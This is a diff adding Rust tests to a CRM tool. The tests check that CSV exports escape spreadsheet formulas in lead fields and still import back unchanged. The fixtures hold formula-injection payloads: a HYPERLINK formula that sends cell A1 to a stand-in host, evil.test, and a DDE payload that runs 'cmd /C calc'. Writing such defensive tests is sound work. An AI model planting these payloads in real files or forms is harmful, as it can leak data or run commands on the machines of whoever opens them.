@@ -710,6 +710,120 @@ async fn csv_imports_are_read_faithfully_and_all_or_nothing(postgres: bool) {
     assert_eq!(contacts().len(), 7, "the first two batches were undone too");
 }
 
+/// Text that a spreadsheet would run as a formula (a lead from the public web form named
+/// `=HYPERLINK(…)`) is exported with a leading `'`, in standard and custom-field columns; numbers
+/// stay numbers; `--raw` writes what is stored; and the escaped export imports back unchanged.
+async fn csv_exports_do_not_write_live_formulas(postgres: bool) {
+    let dir = tempfile::tempdir().unwrap();
+    let Some(url) = database(dir.path(), postgres).await else {
+        return;
+    };
+    let crm_lib = crm_core::Crm::connect(&url).await.unwrap();
+    let mut tenants = Vec::new();
+    for name in ["Acme", "Copy"] {
+        json(&url, &["org", "create", "--name", name]);
+        let slug = name.to_lowercase();
+        let org = crm_lib.organizations().get_by_slug(&slug).await.unwrap();
+        let t = crm_lib.tenant(&crm_core::TenantContext::system(org.id));
+        for (key, ty) in [
+            ("note", CustomFieldType::Text),
+            ("score", CustomFieldType::Number),
+        ] {
+            t.custom_fields()
+                .define(EntityKind::Lead, NewCustomField::new(key, key, ty))
+                .await
+                .unwrap();
+        }
+        tenants.push(t);
+    }
+    let hyperlink = "=HYPERLINK(\"https://evil.test/?\"&A1,\"Open\")";
+    let mut lead = crm_core::NewLead {
+        first_name: Some(hyperlink.into()),
+        last_name: Some("+1+1".into()),
+        company: Some("@SUM(1,1)".into()),
+        title: Some("-2+3+cmd|' /C calc'!A0".into()),
+        phone: Some("'=already quoted".into()),
+        email: Some("form@example.test".into()),
+        ..Default::default()
+    };
+    lead.custom_fields = serde_json::from_value(serde_json::json!({
+        "note": "=1+1",
+        "score": -1200,
+    }))
+    .unwrap();
+    tenants[0].leads().create(lead).await.unwrap();
+    crm_lib.close().await;
+
+    let export = |extra: &[&str]| -> Vec<std::collections::HashMap<String, String>> {
+        let out = text(
+            &url,
+            &[&["export", "leads", "--org", "acme"], extra].concat(),
+        );
+        csv::Reader::from_reader(out.as_bytes())
+            .deserialize()
+            .map(Result::unwrap)
+            .collect()
+    };
+    let escaped = export(&[]);
+    let row = &escaped[0];
+    for (column, cell) in [
+        ("first_name", format!("'{hyperlink}")),
+        ("last_name", "'+1+1".into()),
+        ("company", "'@SUM(1,1)".into()),
+        ("title", "'-2+3+cmd|' /C calc'!A0".into()),
+        ("phone", "''=already quoted".into()),
+        ("email", "form@example.test".into()),
+        ("custom_fields.note", "'=1+1".into()),
+        // A number is data: a spreadsheet reads `-1200` as minus twelve hundred.
+        ("custom_fields.score", "-1200".into()),
+    ] {
+        assert_eq!(row[column], cell, "{column}");
+    }
+    let raw = export(&["--raw"]);
+    assert_eq!(raw[0]["first_name"], hyperlink);
+    assert_eq!(raw[0]["phone"], "'=already quoted");
+    assert_eq!(raw[0]["custom_fields.note"], "=1+1");
+
+    // The escaped file imports back to what was stored.
+    let file = dir.path().join("leads.csv");
+    let file = file.to_str().unwrap();
+    text(
+        &url,
+        &["export", "leads", "--org", "acme", "--output", file],
+    );
+    succeeded(
+        &crm(&url, &["import", "leads", file, "--org", "copy"])
+            .output()
+            .unwrap(),
+    );
+    let stored = |org: &str| -> Value {
+        let line = text(
+            &url,
+            &["export", "leads", "--org", org, "--format", "jsonl"],
+        );
+        let v: Value = serde_json::from_str(line.trim()).unwrap();
+        serde_json::json!([
+            v["first_name"],
+            v["last_name"],
+            v["company"],
+            v["title"],
+            v["phone"],
+            v["custom_fields"],
+        ])
+    };
+    assert_eq!(stored("copy"), stored("acme"));
+}
+
+#[tokio::test]
+async fn sqlite_csv_exports_do_not_write_live_formulas() {
+    csv_exports_do_not_write_live_formulas(false).await;
+}
+
+#[tokio::test]
+async fn postgres_csv_exports_do_not_write_live_formulas() {
+    csv_exports_do_not_write_live_formulas(true).await;
+}
+
 /// `crm jobs plan` enqueues each organization's daily jobs once; `crm worker` runs them and
 /// stops on SIGTERM; `crm jobs list|retry|cancel` show and steer them.
 async fn jobs_are_planned_worked_and_listed(postgres: bool) {
